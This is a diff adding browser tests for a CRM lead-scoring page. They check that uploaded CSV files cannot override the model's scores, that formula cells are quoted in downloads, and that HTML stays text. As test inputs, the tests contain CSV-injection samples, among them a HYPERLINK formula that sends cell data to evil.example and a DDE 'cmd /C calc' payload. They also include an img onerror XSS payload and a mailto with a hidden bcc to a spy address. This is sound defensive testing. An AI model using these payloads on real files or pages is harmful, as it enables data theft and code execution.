@@ -38,6 +38,14 @@ class WebPageTests {
     /** A French CRM export: semicolons, decimal commas, Windows-1252, names and phones, an id above 2^53. */
     static final Path FRENCH_EXPORT = Path.of("src/test/resources/web/export-fr.csv");
     private static final java.util.Map<String, String> FRENCH_SEGMENTS = java.util.Map.of("Hot", "Chaud", "Warm", "Tiède", "Cold", "Froid");
+    private static final java.util.Map<String, String> FRENCH_ACTIONS = java.util.Map.of("CALL", "Appeler", "EMAIL", "Envoyer un email",
+            "NURTURE", "Relance automatique");
+    /** A file with its own score, segment, probability, Priority, next_action and recommendation, and columns named like Object's. */
+    static final Path OWN_SCORES = Path.of("src/test/resources/web/own-scores.csv");
+    /** Formulas, HTML, script links, a bidi override in an id, cells of 5 000 characters. */
+    static final Path HOSTILE_CELLS = Path.of("src/test/resources/web/hostile-cells.csv");
+    /** What a download cell may start with when it is a plain number: a sign, digits, spaced thousands, a decimal point or comma. */
+    private static final java.util.regex.Pattern NUMBER = java.util.regex.Pattern.compile("[+-]?(\\d+|\\d{1,3}([ \u00a0\u202f]\\d{3})+)([.,]\\d+)?");
 
     private final tools.jackson.databind.json.JsonMapper json = tools.jackson.databind.json.JsonMapper.builder().build();
 
@@ -315,6 +323,158 @@ class WebPageTests {
         assertThat(englishLines.get(1)).startsWith("Élise Crémieux,Crémerie du Marché,01 23 45 67 89,elise@cremerie.fr,9007199254740993,2,25,\"4 000,00\",")
                 .containsPattern(",Hot,0\\.\\d+,HIGH,Call,🔥");
         screenshot("download-english");
+    }
+
+    @Test
+    void shouldShowTheModelsAnswerWhenTheFileHasItsOwnScoreSegmentAndNextAction() throws Exception {
+        consoleErrors();
+        List<WebElement> rows = rank(OWN_SCORES, 2);
+
+        // The file says 301 is a 100 "Hot" to call and 302 a 2 "Cold" to drop; the list shows what the model says.
+        java.util.Map<String, com.smoft.crm.scoring.LeadScore> model = java.util.Map.of(
+                "301", scorer.score(new Customer(301, 300, 1, 0, 40, 0, 0, 900)),
+                "302", scorer.score(new Customer(302, 2, 25, 4000, 30, 27, 60, 700)));
+        assertThat(model.get("301").score()).isLessThan(model.get("302").score());
+        assertThat(rows.stream().map(row -> cell(row, "customer_id").getText()).toList()).containsExactly("302", "301");
+        for (WebElement row : rows) {
+            var expected = model.get(cell(row, "customer_id").getText());
+            assertThat(cell(row, "score").getText()).isEqualTo(String.valueOf(expected.score()));
+            assertThat(cell(row, "segment").getText()).isEqualTo(FRENCH_SEGMENTS.get(expected.segment().label()));
+            assertThat(cell(row, "next_action").getText()).isEqualTo(FRENCH_ACTIONS.get(expected.nextAction().action()));
+        }
+        assertThat(byId("batch-result").getText()).doesNotContain("function", "native code", "[object");
+        assertThat(byId("counts").getText()).contains("Chaud : " + model.values().stream().filter(s -> s.segment().label().equals("Hot")).count());
+        assertThat(byId("batch-note").getText()).contains("score (fichier)", "Priority (fichier)", "next_action (fichier)");
+        screenshot("call-list-own-scores");
+
+        // The download keeps the file's own columns, renamed, and the service's under their names; __proto__ and the
+        // other names of Object's are the file's columns like any other.
+        List<String> lines = download().substring(1).lines().toList();
+        assertThat(lines.getFirst()).isEqualTo("Nom;Téléphone;customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;"
+                + "emails_opened;website_visits;customer_age_days;score (fichier);segment (fichier);probability (fichier);Priority (fichier);"
+                + "next_action (fichier);recommendation (fichier);__proto__;constructor;hasOwnProperty;toString;"
+                + "score;segment;probability;priority;next_action;recommendation");
+        var first = model.get("302");
+        assertThat(lines.get(1)).startsWith("Client à appeler;06 12 34 56 78;302;2;25;4 000,00;30;27;60;700;2;Cold;0,01;LOW;toString;"
+                        + "Laisser tomber;proto-302;constructor-302;own-302;text-302;" + first.score() + ";"
+                        + FRENCH_SEGMENTS.get(first.segment().label()) + ";0,")
+                .contains(";" + FRENCH_ACTIONS.get(first.nextAction().action()) + ";");
+
+        byId("language").click();
+        waiting().until(driver -> byId("batch-note").getText().contains("score (file)"));
+        assertThat(byId("batch-note").getText()).doesNotContain("fichier");
+        assertThat(download().lines().findFirst().orElseThrow()).contains(",score (file),segment (file),").endsWith(
+                ",score,segment,probability,priority,next_action,recommendation");
+        assertThat(consoleErrors()).isEmpty();
+    }
+
+    @Test
+    void shouldNeutraliseFormulaCellsInTheDownloadWhileNumbersStayNumbers() throws Exception {
+        rank(HOSTILE_CELLS, 3);
+        List<org.apache.commons.csv.CSVRecord> csv = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setDelimiter(';').get()
+                .parse(new java.io.StringReader(download().substring(1))).getRecords();
+        List<String> header = csv.getFirst().toList();
+        assertThat(header.subList(12, 16)).containsExactly("Solde", "Écart", "Note", "'@Note");
+        java.util.Map<String, List<String>> byId = new java.util.HashMap<>();
+        csv.subList(1, csv.size()).forEach(row -> byId.put(row.get(header.indexOf("customer_id")), row.toList()));
+
+        // OWASP: a cell starting with = + - @ tab or carriage return gets a quote in front, the id included...
+        List<String> formulas = byId.get("'=1+1");
+        assertThat(formulas.subList(0, 4)).containsExactly("'=HYPERLINK(\"http://evil.example/?d=\"&A3;\"Voir la fiche\")",
+                "'@SUM(1+1)*cmd|' /C calc'!A0", "'+33 4 11 22 33 44", "lea@exemple.fr");
+        assertThat(formulas.subList(14, 16)).containsExactly("'-2+3", "'\t=1+1");
+        assertThat(byId.get("A-\u202e1234").subList(14, 16)).containsExactly("'\r@SUM(1)", "'-");
+        // ...while a plain number stays a number, negative or with a decimal comma, and so do the service's figures.
+        assertThat(formulas.subList(12, 14)).containsExactly("-12,5", "-12");
+        assertThat(byId.get("A-\u202e1234").subList(12, 14)).containsExactly("1 234,56", "+5");
+        assertThat(formulas.get(7)).isEqualTo("4 000,00");
+        assertThat(formulas.get(header.indexOf("probability"))).matches("0,\\d+");
+        for (var row : csv) {
+            assertThat(row.toList()).allSatisfy(value -> assertThat(value.isEmpty() || "=+-@\t\r".indexOf(value.charAt(0)) < 0
+                    || NUMBER.matcher(value).matches()).as(value).isTrue());
+        }
+        screenshot("download-formulas");
+    }
+
+    @Test
+    void shouldShowHostileCellsAsTextWithSafeLinksVisibleBidiControlsAndLongCellsCut() throws Exception {
+        consoleErrors();
+        String title = browser.getTitle();
+        List<WebElement> rows = rank(HOSTILE_CELLS, 3);
+        java.util.Map<String, WebElement> byId = new java.util.HashMap<>();
+        rows.forEach(row -> byId.put(cell(row, "customer_id").getText(), row));
+
+        // File content is text, never HTML.
+        WebElement html = byId.get("A-[U+202E]1234");
+        assertThat(html).as("the id with a right-to-left override, its control shown as such").isNotNull();
+        assertThat(cell(html, "name").getText()).isEqualTo("<img src=x onerror=\"document.title='pwned'\">");
+        assertThat(cell(html, "company").getText()).isEqualTo("Café <b>des Arts</b>");
+        assertThat(byId("call-list").findElements(By.cssSelector("tbody img, tbody b"))).isEmpty();
+        assertThat(browser.getTitle()).isEqualTo(title);
+
+        // Links are tel: and mailto: to a phone number and an address, nothing else.
+        assertThat(cell(html, "phone").findElements(By.tagName("a"))).isEmpty();
+        assertThat(cell(html, "email").findElements(By.tagName("a"))).as("an address with ?bcc= added").isEmpty();
+        assertThat(cell(html, "email").getText()).isEqualTo("boss@corp.fr?bcc=spy@evil.example");
+        WebElement formulas = byId.get("=1+1");
+        assertThat(cell(formulas, "phone").findElement(By.tagName("a")).getAttribute("href")).isEqualTo("tel:+33411223344");
+        assertThat(cell(formulas, "email").findElement(By.tagName("a")).getAttribute("href")).isEqualTo("mailto:lea@exemple.fr");
+        assertThat(byId("call-list").findElements(By.cssSelector("tbody a"))).allSatisfy(link ->
+                assertThat(link.getAttribute("href")).matches("tel:\\+?\\d+|mailto:[^?&:/]+@[^?&:/]+"));
+
+        // Cells of 5 000 characters are cut on screen (whole in the search and the download), so the list stays readable.
+        WebElement longCells = byId.get("CUST-3");
+        assertThat(cell(longCells, "name").getText()).startsWith("Très long xxx").endsWith("…").hasSizeLessThanOrEqualTo(101);
+        assertThat(cell(longCells, "name").getAttribute("title")).startsWith("Très long xxx");
+        assertThat(cell(longCells, "email").findElements(By.tagName("a"))).isEmpty();
+        JavascriptExecutor page = (JavascriptExecutor) browser;
+        assertThat((Long) page.executeScript("const box = document.querySelector('#batch-result .table-wrap');"
+                + "return box.scrollWidth - box.clientWidth;")).isLessThanOrEqualTo(0);
+        assertThat(byId("call-list").getText()).doesNotContain("\u202e");
+        assertThat(consoleErrors()).isEmpty();
+        screenshot("call-list-hostile-cells");
+        type("row-search", "yyyyyyyy");
+        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).singleElement()
+                .satisfies(row -> assertThat(cell(row, "customer_id").getText()).isEqualTo("CUST-3"));
+    }
+
+    @Test
+    void shouldDrawTheFirstThousandCustomersOfABigBaseAndSearchAndDownloadThemAll() throws Exception {
+        // 1 200 customers, 1 000 columns of their own (the last one holding their number): the list draws 1 000 rows, so
+        // typing in the search stays quick.
+        StringBuilder file = new StringBuilder("customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;"
+                + "emails_opened;website_visits;customer_age_days");
+        for (int column = 0; column < 1000; column++) {
+            file.append(";colonne ").append(column);
+        }
+        for (int customer = 1; customer <= 1200; customer++) {
+            file.append("\r\n").append(String.format("C-%04d;", customer)).append(customer % 300).append(";5;").append(customer).append(";20;10;5;400")
+                    .append(";".repeat(1000)).append(customer);
+        }
+        Path big = Files.writeString(Path.of("target", "big-base.csv"), file);
+        rank(big, 1000);
+        assertThat(byId("list-note").getText().replace('\u202f', ' ').replace('\u00a0', ' '))
+                .isEqualTo("Les 1 000 premiers clients sur 1 200 sont affichés ; la recherche, le segment et le téléchargement portent sur tous.");
+        List<String> lines = download().substring(1).lines().toList();
+        assertThat(lines).hasSize(1201);
+        assertThat(lines.getFirst().split(";", -1)).hasSize(1014);
+        String[] lastLine = lines.getLast().split(";", -1);
+        String last = lastLine[0];
+        assertThat(lastLine[1007]).isEqualTo(String.valueOf(Integer.parseInt(last.substring(2))));
+        assertThat(lastLine[1008]).as("the service's score, after the file's columns").matches("\\d+");
+        type("row-search", last);
+        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == 1);
+        assertThat(cell(byId("call-list").findElement(By.cssSelector("tbody tr")), "customer_id").getText()).isEqualTo(last);
+        assertThat(byId("list-note").isDisplayed()).isFalse();
+    }
+
+    /** Picks a CSV file on the base tab, scores it and waits for its rows in the call list. */
+    private List<WebElement> rank(Path file, int customers) {
+        browser.findElement(By.cssSelector("[data-tab=base]")).click();
+        byId("csv-file").sendKeys(file.toAbsolutePath().toString());
+        byId("batch-button").click();
+        waiting().until(driver -> byId("call-list").findElements(By.cssSelector("tbody tr")).size() == customers);
+        return byId("call-list").findElements(By.cssSelector("tbody tr"));
     }
 
     /** The file the download button writes, caught where the page hands it to the browser. */
